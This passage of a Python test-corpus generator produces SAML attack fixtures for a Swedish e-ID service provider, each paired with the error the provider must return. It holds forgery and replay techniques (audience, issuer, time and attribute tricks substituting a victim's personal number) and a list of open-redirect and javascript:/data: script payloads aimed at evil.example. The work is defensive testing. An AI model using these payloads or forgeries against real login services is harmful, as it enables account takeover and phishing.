    ErrorCode.DESTINATION_MISMATCH,
    "The ACS URL with a trailing slash: compared exactly.",
    destination=ACS_URL + "/",
)
_simple(
    "adr-destination-http-scheme",
    "addressing",
    ErrorCode.DESTINATION_MISMATCH,
    "The ACS URL over http:// instead of https://.",
    destination=ACS_URL.replace("https://", "http://"),
)
_simple(
    "adr-destination-upper-case-host",
    "addressing",
    ErrorCode.DESTINATION_MISMATCH,
    "The ACS URL with the host in upper case: compared exactly, not normalised.",
    destination=ACS_URL.replace("sp.example.test", "SP.EXAMPLE.TEST"),
)
_simple(
    "adr-destination-with-query",
    "addressing",
    ErrorCode.DESTINATION_MISMATCH,
    "The ACS URL with a query string appended.",
    destination=ACS_URL + "?next=" + EVIL,
)
_simple(
    "adr-recipient-other-host",
    "addressing",
    ErrorCode.RECIPIENT_MISMATCH,
    "SubjectConfirmationData Recipient is another SP's ACS.",
    recipient=EVIL + "/saml/acs",
)
_simple(
    "adr-audience-other-sp",
    "addressing",
    ErrorCode.AUDIENCE_MISMATCH,
    "An assertion for another SP in the federation.",
    audience="https://other-sp.example/sp",
)


@case("adr-recipient-missing", "addressing", ErrorCode.RECIPIENT_MISMATCH)
def _adr_recipient_missing(ctx, d):
    """SubjectConfirmationData without Recipient."""
    return signed(
        ctx,
        d,
        mutate_assertion=lambda a: a.find(
            "saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", NS
        ).attrib.pop("Recipient"),
    )


@case("adr-audience-restriction-missing", "addressing", ErrorCode.AUDIENCE_MISMATCH)
def _adr_no_restriction(ctx, d):
    """Conditions without any AudienceRestriction (an assertion for anyone)."""

    def drop(a):
        cond = a.find("saml:Conditions", NS)
        cond.remove(cond.find("saml:AudienceRestriction", NS))

    return signed(ctx, d, mutate_assertion=drop)


@case("adr-second-audience-restriction-excludes-us", "addressing", ErrorCode.AUDIENCE_MISMATCH)
def _adr_second_restriction(ctx, d):
    """Two AudienceRestrictions, the second without us: every restriction must admit us (SAML core 2.5.1.4)."""

    def add(a):
        cond = a.find("saml:Conditions", NS)
        etree.SubElement(
            etree.SubElement(cond, A + "AudienceRestriction"), A + "Audience"
        ).text = "https://other-sp.example/sp"

    return signed(ctx, d, mutate_assertion=add)


_simple(
    "adr-subject-confirmation-for-another-request",
    "addressing",
    ErrorCode.SUBJECT_CONFIRMATION_INVALID,
    "SubjectConfirmationData InResponseTo names another request than the Response.",
    confirmation_in_response_to="_another_request",
)


@case("adr-subject-confirmation-holder-of-key", "addressing", ErrorCode.SUBJECT_CONFIRMATION_INVALID)
def _adr_hok(ctx, d):
    """A holder-of-key SubjectConfirmation where bearer is the profile."""
    return signed(
        ctx,
        d,
        mutate_assertion=lambda a: a.find("saml:Subject/saml:SubjectConfirmation", NS).set(
            "Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"
        ),
    )


@case("adr-two-subject-confirmations", "addressing", ErrorCode.SUBJECT_CONFIRMATION_INVALID)
def _adr_two_confirmations(ctx, d):
    """Two bearer SubjectConfirmations, the second for another Recipient."""

    def add(a):
        confirmation = a.find("saml:Subject/saml:SubjectConfirmation", NS)
        extra = copy.deepcopy(confirmation)
        extra.find("saml:SubjectConfirmationData", NS).set("Recipient", EVIL + "/acs")
        confirmation.addnext(extra)

    return signed(ctx, d, mutate_assertion=add)


# ---------------------------------------------------------------- time (checklist 6, 7)


def _at(seconds: int):
    return lambda ctx: ctx.now + dt.timedelta(seconds=seconds)


def _timed(name, code, doc, **moments):
    def build(ctx, d):
        return signed(ctx, d, **{k: f(ctx) for k, f in moments.items()})

    build.__doc__ = doc
    case(name, "time", code)(build)


_timed(
    "time-conditions-not-before-just-outside-skew",
    ErrorCode.NOT_YET_VALID,
    "Conditions NotBefore one second beyond the clock skew.",
    not_before=_at(SKEW + 1),
)
_timed(
    "time-conditions-not-on-or-after-at-skew-boundary",
    ErrorCode.EXPIRED,
    "Conditions NotOnOrAfter exactly the skew ago: 'on or after' includes the boundary.",
    not_on_or_after=_at(-SKEW),
)
_timed(
    "time-confirmation-not-on-or-after-passed",
    ErrorCode.EXPIRED,
    "SubjectConfirmationData NotOnOrAfter passed (beyond the skew).",
    confirmation_not_on_or_after=_at(-SKEW - 1),
)
_timed(
    "time-response-issue-instant-too-old",
    ErrorCode.RESPONSE_TOO_OLD,
    "Response IssueInstant older than the maximum age plus skew.",
    response_issue_instant=_at(-MAX_AGE - SKEW - 1),
)
_timed(
    "time-assertion-issue-instant-too-old",
    ErrorCode.RESPONSE_TOO_OLD,
    "Assertion IssueInstant older than the maximum age plus skew.",
    assertion_issue_instant=_at(-MAX_AGE - SKEW - 1),
)
_timed(
    "time-response-issue-instant-in-future",
    ErrorCode.ISSUE_INSTANT_IN_FUTURE,
    "Response IssueInstant one second beyond the skew in the future.",
    response_issue_instant=_at(SKEW + 1),
)
_timed(
    "time-assertion-issue-instant-in-future",
    ErrorCode.ISSUE_INSTANT_IN_FUTURE,
    "Assertion IssueInstant one second beyond the skew in the future.",
    assertion_issue_instant=_at(SKEW + 1),
)


@case("time-confirmation-not-before-in-future", "time", ErrorCode.NOT_YET_VALID)
def _time_scd_nb(ctx, d):
    """SubjectConfirmationData NotBefore beyond the skew in the future."""
    return signed(
        ctx,
        d,
        mutate_assertion=lambda a: a.find("saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", NS).set(
            "NotBefore", instant(ctx.now + dt.timedelta(seconds=SKEW + 1))
        ),
    )


@case("time-issue-instant-without-time-zone", "time", ErrorCode.SCHEMA_INVALID)
def _time_no_tz(ctx, d):
    """An assertion IssueInstant with no time zone: ambiguous, refused rather than guessed."""
    return signed(ctx, d, mutate_assertion=lambda a: a.set("IssueInstant", ctx.now.strftime("%Y-%m-%dT%H:%M:%S")))


@case("time-not-on-or-after-not-a-date", "time", ErrorCode.SCHEMA_INVALID)
def _time_garbage(ctx, d):
    """Conditions NotOnOrAfter that is not a date at all."""
    return signed(ctx, d, mutate_assertion=lambda a: a.find("saml:Conditions", NS).set("NotOnOrAfter", "tomorrow"))


# ---------------------------------------------------------------- request binding (checklist 4, 13)

_simple(
    "req-unsolicited-no-in-response-to",
    "request-binding",
    ErrorCode.UNSOLICITED_RESPONSE,
    "An IdP-initiated (unsolicited) Response: refused by default.",
    in_response_to=None,
)
_simple(
    "req-unknown-in-response-to",
    "request-binding",
    ErrorCode.REQUEST_UNKNOWN,
    "InResponseTo names a request this SP never sent.",
    in_response_to="_never_sent_by_this_sp",
)
_simple(
    "req-response-from-another-idp-than-asked",
    "request-binding",
    ErrorCode.ISSUER_MISMATCH,
    "A trusted IdP answers a request that went to another IdP (issuer confusion).",
    issuer=OTHER_IDP,
)
_simple(
    "req-issuer-unknown",
    "request-binding",
    ErrorCode.ISSUER_UNKNOWN,
    "An Issuer that is not in trusted metadata.",
    issuer=EVIL + "/idp",
)
_simple(
    "req-assertion-issuer-differs",
    "request-binding",
    ErrorCode.ISSUER_MISMATCH,
    "The assertion's Issuer differs from the Response's.",
    assertion_issuer=OTHER_IDP,
)


@case("req-expisoft-answer-to-bankid-request", "request-binding", ErrorCode.ISSUER_MISMATCH)
def _req_cross_method(ctx, d):
    """The Expisoft IdP (trusted, other attributes) answers a BankID request."""
    return signed(ctx, d, issuer=EXPISOFT_IDP)


@case("req-two-issuers", "request-binding", ErrorCode.ISSUER_UNKNOWN)
def _req_two_issuers(ctx, d):
    """Two Issuer elements on the Response (which is the sender?)."""
    return signed(
        ctx, d, mutate_response=lambda r: r.find("saml:Issuer", NS).addnext(copy.deepcopy(r.find("saml:Issuer", NS)))
    )


@case("req-browser-cookie-missing", "request-binding", ErrorCode.REQUEST_BROWSER_MISMATCH)
def _req_no_cookie(ctx, d):
    """A stolen response posted from a browser without the login's binding cookie (login CSRF)."""
    return dict(signed(ctx, d), browser="none", valid_message=True)


@case("req-browser-cookie-of-another-browser", "request-binding", ErrorCode.REQUEST_BROWSER_MISMATCH)
def _req_other_cookie(ctx, d):
    """A response posted from another browser, with its own binding cookie."""
    return dict(signed(ctx, d), browser="other", valid_message=True)


@case("req-relay-state-missing", "request-binding", ErrorCode.RELAY_STATE_MISMATCH)
def _req_no_relay(ctx, d):
    """No RelayState where the request had one."""
    result = signed(ctx, d, valid_message=True)
    del result["form"]["RelayState"]
    return result


@case("req-replayed-on-the-same-node", "request-binding", ErrorCode.REQUEST_UNKNOWN)
def _req_replay(ctx, d):
    """The victim's accepted response posted again from another browser: the request was consumed on first use."""
    return dict(signed(ctx, d), steps=("victim_first",), browser="none", valid_message=True)


@case("req-replayed-on-another-node", "request-binding", ErrorCode.REQUEST_UNKNOWN)
def _req_replay_node(ctx, d):
    """The victim logs in on node A; the same response is posted to node B, which shares the store."""
    return dict(signed(ctx, d), steps=("victim_first", "on_node_b"), browser="none", valid_message=True)


@case("req-replayed-with-request-restored-on-another-node", "request-binding", ErrorCode.ASSERTION_REPLAYED)
def _req_replay_restored(ctx, d):
    """As above, but the request record is live again (say, restored from a backup): the shared replay cache still refuses the assertion."""
    return dict(signed(ctx, d), steps=("victim_first", "restore_request", "on_node_b"), valid_message=True)


# ---------------------------------------------------------------- LoA and statements (checklist 7)

_simple(
    "loa-not-requested-loa2",
    "loa",
    ErrorCode.LOA_NOT_REQUESTED,
    "AuthnContextClassRef loa2: lower than any requested LoA.",
    loa="http://id.elegnamnden.se/loa/1.0/loa2",
)
_simple(
    "loa-nonresident-for-bankid",
    "loa",
    ErrorCode.LOA_NOT_REQUESTED,
    "loa3-nonresident (a real LoA, requested only for Expisoft) in a BankID login.",
    loa=LOA3_NONRESIDENT,
)
_simple(
    "loa-suffix-trick",
    "loa",
    ErrorCode.LOA_NOT_REQUESTED,
    "The requested LoA URI with a fragment appended (prefix matching would accept it).",
    loa=LOA3 + "#evil",
)


@case("loa-missing", "loa", ErrorCode.LOA_NOT_REQUESTED)
def _loa_missing(ctx, d):
    """An AuthnContext without AuthnContextClassRef."""

    def drop(a):
        context = a.find("saml:AuthnStatement/saml:AuthnContext", NS)
        context.remove(context.find("saml:AuthnContextClassRef", NS))
        etree.SubElement(context, A + "AuthnContextDeclRef").text = LOA3

    return signed(ctx, d, mutate_assertion=drop)


@case("loa-authn-instant-before-force-authn-request", "loa", ErrorCode.AUTHN_INSTANT_TOO_OLD)
def _loa_old_authn(ctx, d):
    """ForceAuthn was asked, but AuthnInstant is ten minutes before the request (an old session reused)."""
    return signed(ctx, d, authn_instant=ctx.now - dt.timedelta(minutes=10))


@case("loa-two-authn-statements", "loa", ErrorCode.AUTHN_STATEMENT_COUNT)
def _loa_two(ctx, d):
    """Two AuthnStatements (two LoAs to choose from)."""

    def add(a):
        statement = a.find("saml:AuthnStatement", NS)
        extra = copy.deepcopy(statement)
        extra.find("saml:AuthnContext/saml:AuthnContextClassRef", NS).text = LOA3
        statement.addnext(extra)

    return signed(ctx, d, mutate_assertion=add)


@case("loa-no-authn-statement", "loa", ErrorCode.AUTHN_STATEMENT_COUNT)
def _loa_none(ctx, d):
    """An assertion with attributes but no AuthnStatement."""
    return signed(ctx, d, mutate_assertion=lambda a: a.remove(a.find("saml:AuthnStatement", NS)))


@case("loa-two-attribute-statements", "loa", ErrorCode.ATTRIBUTE_STATEMENT_COUNT)
def _loa_two_attr(ctx, d):
    """Two AttributeStatements, the second with the victim's number."""

    def add(a):
        statement = a.find("saml:AttributeStatement", NS)
        extra = copy.deepcopy(statement)
        for value in extra.iter(A + "AttributeValue"):
            if value.text == PERSON_ATTRIBUTES[PERSONAL_IDENTITY_NUMBER][0]:
                value.text = VICTIM_PNR
        statement.addnext(extra)

    return signed(ctx, d, mutate_assertion=add)


# ---------------------------------------------------------------- attributes and identity (checklist 9)


def _with_attributes(method: str, change):
    def build(ctx, d):
        seed = ctx.seed(d.name, method)
        spec = ctx.spec(seed)
        change(spec.attributes)
        return acs_case(ctx, d, tostring(ctx.idp.build(spec)), seed)

    return build


def _register_attr(name, code, doc, method, change):
    build = _with_attributes(method, change)
    build.__doc__ = doc
    case(name, "attributes", code)(build)


_register_attr(
    "attr-org-affiliation-outside-idp-scope",
    ErrorCode.SCOPE_NOT_AUTHORISED,
    "orgAffiliation for an organisation that is not a shibmd:Scope of the IdP.",
    "expisoft",
    lambda at: at.__setitem__(ORG_AFFILIATION, ["x1@5560000019"]),
)
_register_attr(
    "attr-org-affiliation-scope-split-trick",
    ErrorCode.SCOPE_NOT_AUTHORISED,
    "uid@5560000001@5560000019: split at the last '@', the scope is the unauthorised one.",
    "expisoft",
    lambda at: at.__setitem__(ORG_AFFILIATION, ["x1@5560000001@5560000019"]),
)
_register_attr(
    "attr-personal-number-bad-check-digit",
    ErrorCode.PERSONAL_NUMBER_INVALID,
    "A personal identity number with a wrong check digit.",
    "bankid",
    lambda at: at.__setitem__(PERSONAL_IDENTITY_NUMBER, ["198001012388"]),
)
_register_attr(
    "attr-personal-number-with-hyphen",
    ErrorCode.PERSONAL_NUMBER_INVALID,
    "YYYYMMDD-NNNN: the attribute is 12 digits, no separator.",
    "bankid",
    lambda at: at.__setitem__(PERSONAL_IDENTITY_NUMBER, ["19800101-2387"]),
)
_register_attr(
    "attr-coordination-number",
    ErrorCode.COORDINATION_NUMBER_NOT_ACCEPTED,
    "A samordningsnummer (day + 60), not accepted by default.",
    "bankid",
    lambda at: at.__setitem__(PERSONAL_IDENTITY_NUMBER, ["199003652386"]),
)
_register_attr(
    "attr-two-personal-numbers",
    ErrorCode.ATTRIBUTE_MULTI_VALUED,
    "Two values of personalIdentityNumber (the attacker's and the victim's).",
    "bankid",
    lambda at: at.__setitem__(PERSONAL_IDENTITY_NUMBER, [PERSON_ATTRIBUTES[PERSONAL_IDENTITY_NUMBER][0], VICTIM_PNR]),
)
_register_attr(
    "attr-date-of-birth-disagrees",
    ErrorCode.ATTRIBUTE_VALUE_MALFORMED,
    "dateOfBirth that disagrees with the personal identity number.",
    "bankid",
    lambda at: at.__setitem__(DATE_OF_BIRTH, ["1975-12-24"]),
)


@case("attr-personal-number-attribute-twice", "attributes", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
def _attr_twice(ctx, d):
    """Two Attribute elements named personalIdentityNumber (a reader keeping the last would take the victim's)."""

    def add(a):
        for attribute in a.iter(A + "Attribute"):
            if attribute.get("Name") == PERSONAL_IDENTITY_NUMBER:
                extra = copy.deepcopy(attribute)
                extra.find("saml:AttributeValue", NS).text = VICTIM_PNR
                attribute.addnext(extra)
                return

    return signed(ctx, d, mutate_assertion=add)


# ---------------------------------------------------------------- IdP status (checklist 10)

_simple(
    "status-unsigned-cancel",
    "status",
    ErrorCode.RESPONSE_NOT_SIGNED,
    "An unsigned 'cancel' status: even a failure page needs a signed Response.",
    sign_response=False,
    status=("urn:oasis:names:tc:SAML:2.0:status:Responder", "http://id.elegnamnden.se/status/1.0/cancel"),
)


@case("status-cancel-breaking-the-schema", "status", ErrorCode.SCHEMA_INVALID)
def _status_schema(ctx, d):
    """A validly signed 'cancel' whose Response breaks the SAML schema: a failure answer is schema-checked too."""
    return signed(
        ctx,
        d,
        status=("urn:oasis:names:tc:SAML:2.0:status:Responder", "http://id.elegnamnden.se/status/1.0/cancel"),
        mutate_response=lambda r: etree.SubElement(r, P + "Unexpected"),
    )


@case("status-fraud-signed-by-attacker", "status", ErrorCode.SIGNATURE_INVALID)
def _status_fraud(ctx, d):
    """A forged 'fraud' status (to scare the user into a phishing flow), signed by the attacker."""
    return signed(
        ctx,
        d,
        factory=ctx.attacker,
        status=("urn:oasis:names:tc:SAML:2.0:status:Responder", "http://id.elegnamnden.se/status/1.0/fraud"),
    )


# ---------------------------------------------------------------- open redirects (checklist 13)

# Each string against RelayState (must match the opaque server-side key),
# /login/{method}?next= (refused), and /login?next= and /lang/{code}?next=
# (dropped: the chooser and the language switch fall back to a safe page).
OPEN_REDIRECTS = [
    ("double-slash", "//evil.example"),
    ("triple-slash", "///evil.example"),
    ("quadruple-slash", "////evil.example/"),
    ("slash-backslash", "/\\evil.example"),
    ("double-backslash", "\\\\evil.example"),
    ("backslash-slash", "\\/evil.example"),
    ("scheme-encoded-backslashes", "https:%5c%5cevil.example"),
    ("encoded-backslash", "/%5cevil.example"),
    ("encoded-slashes", "/%2F%2Fevil.example"),
    ("double-encoded-slashes", "/%252F%252Fevil.example"),
    ("absolute-https", "https://evil.example/"),
    ("scheme-without-slashes", "http:evil.example"),
    ("userinfo-at-host", "//sp.example.test@evil.example/"),
    ("javascript", "javascript:alert(document.domain)"),
    ("javascript-mixed-case", "JaVaScRiPt:alert(1)"),
    ("data-url", "data:text/html,<script>alert(1)</script>"),
    ("tab-between-slashes", "/\t/evil.example"),
    ("leading-space", " //evil.example"),
    ("unicode-division-slashes", "/\u2215\u2215evil.example"),
    ("fullwidth-solidus", "/\uff0fevil.example"),
]


def _relay_state_case(target):
    def build(ctx, d):
        result = signed(ctx, d, valid_message=True)
        result["form"]["RelayState"] = target
        return result

    return build


for _slug, _target in OPEN_REDIRECTS:
    _b = _relay_state_case(_target)
    _b.__doc__ = (
        f"RelayState {_target!r} with a valid response: RelayState is an opaque key and must equal the request's."
    )
    case(f"redirect-relaystate-{_slug}", "open-redirect", ErrorCode.RELAY_STATE_MISMATCH)(_b)
    _b = (lambda target: lambda ctx, d: dict(path="/login/bankid", query={"next": target}))(_target)
    _b.__doc__ = f"/login/bankid?next={_target!r}: refused before any AuthnRequest is made."
    case(f"redirect-login-start-next-{_slug}", "open-redirect", ErrorCode.UNSAFE_REDIRECT, endpoint="login_start")(_b)
    _b = (lambda target: lambda ctx, d: dict(path="/login", query={"next": target}))(_target)
    _b.__doc__ = f"/login?next={_target!r}: the chooser drops the target (no method link carries it)."
    case(f"redirect-chooser-next-{_slug}", "open-redirect", None, expect="dropped", endpoint="login")(_b)
    _b = (lambda target: lambda ctx, d: dict(path="/lang/en", query={"next": target}))(_target)
    _b.__doc__ = f"/lang/en?next={_target!r}: the language switch goes to / instead."
    case(f"redirect-lang-next-{_slug}", "open-redirect", None, expect="dropped", endpoint="lang")(_b)


# URLs that are not UTF-8 (WebOb decodes them on first read; this was a 500).
for _name, _endpoint, _path in (
    ("web-chooser-next-not-utf8", "login", "/login"),
    ("web-login-start-next-not-utf8", "login_start", "/login/bankid"),
    ("web-lang-next-not-utf8", "lang", "/lang/en"),
):
    _b = (lambda path: lambda ctx, d: dict(path=path, raw_query="next=%ff%fe"))(_path)
    _b.__doc__ = (
        f"{_path}?next=%ff%fe: bytes that are not UTF-8 in the query string are a bad request, not a server error."
    )
    case(_name, "web", ErrorCode.REQUEST_ENCODING_INVALID, endpoint=_endpoint)(_b)


# ---------------------------------------------------------------- controls (must be accepted)


def _control(name, doc, method="bankid", **overrides):
    def build(ctx, d):
        return signed(ctx, d, method, **{k: (v(ctx) if callable(v) else v) for k, v in overrides.items()})

    build.__doc__ = doc
    case(name, "control", None, expect="accepted")(build)


_control("control-bankid-login", "A valid BankID response built like every case: accepted.")
_control("control-expisoft-login", "A valid Expisoft (organisation) response: accepted.", "expisoft")
_control(
    "control-unsigned-assertion-in-signed-response",
    "DP 6.1: the Response must be signed, the assertion may be.",
    sign_assertion=False,
)
_control(
    "control-not-before-at-skew-boundary",
    "Conditions NotBefore exactly the skew ahead: still valid.",
    not_before=_at(SKEW),
)
_control(
    "control-not-on-or-after-inside-skew",
    "Conditions NotOnOrAfter one second inside the skew: still valid.",
    not_on_or_after=_at(-SKEW + 1),
)
_control(
    "control-issue-instant-at-max-age",
    "IssueInstant exactly the maximum age plus skew ago: still valid.",
    response_issue_instant=_at(-MAX_AGE - SKEW),
)
_control(
    "control-issue-instant-future-inside-skew",
    "IssueInstant exactly the skew ahead: still valid.",
    response_issue_instant=_at(SKEW),
)


@case("control-comment-between-elements-after-signing", "control", None, expect="accepted")
def _control_comment(ctx, d):
    """A comment between elements added after signing: exc-c14n drops it and no value is split, so it is harmless."""
    return _after_signing(ctx, d, lambda r: r.find("saml:Issuer", NS).addnext(etree.Comment(" harmless ")))


@case("control-unused-namespace-declaration-after-signing", "control", None, expect="accepted")
def _control_unused_ns(ctx, d):
    """An unused namespace declaration added after signing: exc-c14n drops it, so the signature still holds."""
    return _signed_bytes_with(ctx, d, b'xmlns:unused="urn:example:unused"')


# ---------------------------------------------------------------- generation


def names() -> list[str]:
    """Every fixture name, in registry order (known without keys: used to parametrize tests)."""
    return [d.name for d in REGISTRY]


def build_case(ctx: Ctx, d: CaseDef) -> Case:
    ctx.authorised = set()
    fields = d.build(ctx, d)
    if fields.get("xml") is not None and (d.expect == "accepted" or fields.get("valid_message")):
        ctx.authorise(fields["xml"])
    authorised = sorted(a for a in ctx.authorised if a)
    return Case(
        name=d.name,
        group=d.group,
        endpoint=d.endpoint,
        expect=d.expect,
        code=d.code.value if d.code else None,
        doc=d.doc,
        authorised=authorised,
        **fields,
    )


def generate(out_dir: str, keys: KeySet, now: dt.datetime) -> dict[str, Case]:
    """Build every case, write ``<name>.json`` (and ``<name>.xml``) to ``out_dir``; return them by name."""
    os.makedirs(out_dir, exist_ok=True)
    ctx = Ctx(keys, now)
    cases = {}
    for d in REGISTRY:
        built = build_case(ctx, d)
        with open(os.path.join(out_dir, d.name + ".json"), "w", encoding="utf-8") as fh:
            json.dump(built.to_json(), fh, indent=1, sort_keys=True)
        if built.xml is not None:
            with open(os.path.join(out_dir, d.name + ".xml"), "wb") as fh:
                fh.write(built.xml)
        cases[d.name] = built
    with open(os.path.join(out_dir, "corpus.json"), "w", encoding="utf-8") as fh:
        json.dump({"now": instant(ctx.now), "names": names()}, fh, indent=1)
    return cases


def load_case(out_dir: str, name: str) -> Case:
    """One fixture as written by :func:`generate`."""
    with open(os.path.join(out_dir, name + ".json"), encoding="utf-8") as fh:
        data = json.load(fh)
    xml_path = os.path.join(out_dir, name + ".xml")
    xml = None
    if os.path.exists(xml_path):
        with open(xml_path, "rb") as fh:
            xml = fh.read()
    return Case.from_json(data, xml)


def corpus_now(out_dir: str) -> dt.datetime:
    with open(os.path.join(out_dir, "corpus.json"), encoding="utf-8") as fh:
        return dt.datetime.strptime(json.load(fh)["now"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=dt.UTC)


def manifest() -> list[dict]:
    """The committed index: what each fixture is and what the SP must answer (no keys needed)."""
    return [
        {
            "name": d.name,
            "group": d.group,
            "endpoint": d.endpoint,
            "expect": d.expect,
            "code": d.code.value if d.code else None,
            "doc": d.doc,
        }
        for d in REGISTRY
    ]


def manifest_text() -> str:
    return (
        json.dumps({"generator": "tests/attacks/generate_corpus.py", "cases": manifest()}, indent=1, ensure_ascii=False)
        + "\n"
    )


def _main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", help="write the corpus here, with fresh TEST-ONLY keys in <out>/keys")
    parser.add_argument("--manifest", action="store_true", help=f"rewrite {os.path.relpath(MANIFEST)}")
    args = parser.parse_args(argv)
    if not args.out and not args.manifest:
        parser.error("give --out DIR and/or --manifest")
    if args.manifest:
        with open(MANIFEST, "w", encoding="utf-8") as fh:
            fh.write(manifest_text())
        print(f"{len(REGISTRY)} cases listed in {MANIFEST}")
    if args.out:
        from ekn_saml.keygen import write_key_pair

        key_dir = os.path.join(args.out, "keys")
        for stem in ("idp", "attacker", "sp-encryption"):
            write_key_pair(key_dir, stem, f"ekn_saml attack corpus {stem} (TEST ONLY)", bits=2048)
        cases = generate(args.out, KeySet.from_dir(key_dir), dt.datetime.now(dt.UTC))
        print(f"{len(cases)} fixtures written to {args.out} (TEST-ONLY keys in {key_dir})")
    return 0


if __name__ == "__main__":
    sys.exit(_main())
